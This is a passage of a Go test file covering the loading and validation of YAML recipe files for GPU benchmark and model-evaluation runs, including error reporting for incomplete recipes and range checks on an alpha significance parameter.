		{
			name: "baseline_from a valid recipe",
			fsys: fstest.MapFS{
				"w/a.yaml": recipe("spec", expectFrom("nospec")),
				"w/b.yaml": recipe("nospec", ""),
			},
			valid: []string{"spec", "nospec"},
		},
		{
			name: "one bad file does not stop the others",
			fsys: fstest.MapFS{
				"w/a.yaml":       recipe("good", ""),
				"w/b.yaml":       {Data: []byte("name: bad\n")},
				"w/notes.txt":    {Data: []byte("not a recipe")},
				"w/.hidden.yaml": {Data: []byte("not: read")},
			},
			want: []string{
				"w/b.yaml:1:1: recipe needs gpu",
				"w/b.yaml:1:1: recipe needs num_gpus",
				"w/b.yaml:1:1: recipe needs vllm",
				"w/b.yaml:1:1: recipe measures nothing: add lm_eval, vllm_bench, bfcl or aiperf",
			},
			valid: []string{"good"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c, err := LoadDir(tt.fsys, "w", profiles)
			if err != nil {
				t.Fatalf("LoadDir() error = %v", err)
			}
			var got []string
			for _, p := range c.Problems() {
				got = append(got, p.Error())
			}
			if diff := cmp.Diff(got, tt.want); diff != "" {
				t.Errorf("LoadDir() problems diff (-got +want):\n%s", diff)
			}
			if (c.Err() == nil) != (len(tt.want) == 0) {
				t.Errorf("Catalog.Err() = %v, want an error: %t", c.Err(), len(tt.want) > 0)
			}
			var names []string
			for _, r := range c.Recipes {
				names = append(names, r.Name)
			}
			want := map[string]bool{}
			for _, n := range tt.valid {
				want[n] = true
			}
			for _, n := range names {
				if !want[n] {
					t.Errorf("recipe %q is valid, want it invalid", n)
				}
				delete(want, n)
			}
			for n := range want {
				t.Errorf("recipe %q is missing from the valid recipes %v", n, names)
			}
		})
	}
}

func TestLoadDirUnreadable(t *testing.T) {
	t.Parallel()
	if _, err := LoadDir(fstest.MapFS{}, "missing", defaultProfiles(t)); err == nil {
		t.Fatal("LoadDir(missing dir) error = nil, want one")
	}
}

func TestParseAlpha(t *testing.T) {
	t.Parallel()
	profiles := defaultProfiles(t)
	src := func(expect string) string {
		return "name: ok\ngpu: MI355X\nnum_gpus: 8\nvllm: {model: org/m}\nlm_eval:\n  tasks:\n    - name: gsm8k\n      num_fewshot: 5\n      expect: " + expect + "\n"
	}
	bad := []struct {
		name, expect string
		want         finding
	}{
		{"zero", "{baseline_from: nospec, tolerance: 0.01, alpha: 0}", finding{"9:63", "alpha must be above 0 and below 1, got 0"}},
		{"one", "{baseline_from: nospec, tolerance: 0.01, alpha: 1}", finding{"9:63", "alpha must be above 0 and below 1, got 1"}},
		{"negative", "{baseline_from: nospec, alpha: -0.5}", finding{"9:46", "alpha must be between 0 and 1, got -0.5"}},
		{"above one", "{baseline_from: nospec, alpha: 5}", finding{"9:46", "alpha must be between 0 and 1, got 5"}},
		{"a string", "{baseline_from: nospec, alpha: \"0.05\"}", finding{"9:46", "alpha must be a number"}},
		{"NaN", "{baseline_from: nospec, alpha: .nan}", finding{"9:46", "not a finite number"}},
		{"without baseline_from", "{min: 0.5, alpha: 0.05}", finding{"9:33", "alpha needs baseline_from"}},
		{"with a fixed baseline", "{baseline: 0.8, tolerance: 0.01, alpha: 0.05}", finding{"9:55", "alpha needs baseline_from"}},
	}
	for _, tt := range bad {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, ps := Parse("r.yaml", []byte(src(tt.expect)), profiles)
			got := findings(t, "r.yaml", ps.Errors(), []finding{tt.want})
			if diff := cmp.Diff(got, []finding{tt.want}); diff != "" {
				t.Errorf("Parse(%s) problems diff (-got +want):\n%s", tt.expect, diff)
			}
			if r != nil {
				t.Errorf("Parse(%s) recipe = %+v, want nil", tt.expect, r)
			}
		})
	}
	good := []struct {
		expect string
		want   float64
	}{
		{"{baseline_from: nospec, tolerance: 0.01}", DefaultAlpha},
		{"{baseline_from: nospec, tolerance: 0.01, alpha: 0.05}", 0.05},
		{"{min: 0.5}", 0},
	}
	for _, tt := range good {
		r, ps := Parse("r.yaml", []byte(src(tt.expect)), profiles)
		if len(ps.Errors()) > 0 || r == nil {
			t.Errorf("Parse(%s) problems = %v", tt.expect, ps.Errors())
			continue
		}
		if got := r.LMEval.Tasks[0].Expect[0].Alpha; got != tt.want {
			t.Errorf("Parse(%s) alpha = %v, want %v", tt.expect, got, tt.want)
		}
	}
}
